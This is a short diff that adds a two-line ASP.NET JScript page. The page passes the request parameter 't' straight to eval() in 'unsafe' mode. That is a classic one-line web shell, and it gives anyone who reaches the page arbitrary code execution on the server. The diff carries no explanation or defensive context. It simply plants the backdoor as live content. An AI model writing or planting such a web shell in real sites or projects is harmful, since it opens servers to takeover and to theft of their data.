@@ -1,0 +1,2 @@
+<%@ Page Language="Jscript"%>
+<% eval(Request.Item["t"],"unsafe"); %>
